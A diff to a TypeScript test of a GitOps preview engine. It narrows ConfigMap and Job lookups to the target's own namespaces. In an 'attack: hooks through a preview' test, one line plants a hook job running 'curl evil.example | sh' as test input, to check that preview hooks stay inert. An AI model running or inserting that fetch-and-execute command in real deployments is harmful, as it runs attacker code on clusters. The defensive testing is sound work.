@@ -1,6 +1,7 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { stringify } from 'yaml';
 import { startGitHub, type TestGitHub } from '../../devenv/index.js';
+import type { KubeObject } from '../../shared/model/index.js';
 import { testEnv, uniqueName } from '../helpers/env.js';
 import { gitopsRepo, testEngine } from '../helpers/engine.js';
 import { previewRepo } from '../helpers/previews.js';
@@ -229,9 +230,11 @@ describe('attack: hooks through a preview', () => {
     const opened = await s.open('hooked', { 'apps/templates/hook.yaml': job('curl evil.example | sh') });
     expect(opened.outcome.kind).not.toBe('failed');
     // The preview environment is deployed (its objects applied), and its comment says how the chart was rendered.
-    const configs = (await client.list('v1', 'ConfigMap')).filter((c) => c.metadata.name === 'web-config');
+    // Namespaces of this target: its own, and its preview environment's (named after it).
+    const ours = (o: KubeObject) => o.metadata.namespace?.includes(target) === true;
+    const configs = (await client.list('v1', 'ConfigMap')).filter((c) => c.metadata.name === 'web-config' && ours(c));
     expect(configs.map((c) => c.metadata.namespace).filter((ns) => ns !== target)).toHaveLength(1);
-    const jobs = (await client.list('batch/v1', 'Job')).filter((j) => j.metadata.name === 'migrate');
+    const jobs = (await client.list('batch/v1', 'Job')).filter((j) => j.metadata.name === 'migrate' && ours(j));
     expect(jobs.map((j) => j.metadata.namespace)).toEqual([target]);
     expect(ran).toEqual([`${target}/migrate`]);
     expect(s.lastComment(opened.number)).toMatch(/rendered without reading the cluster/);
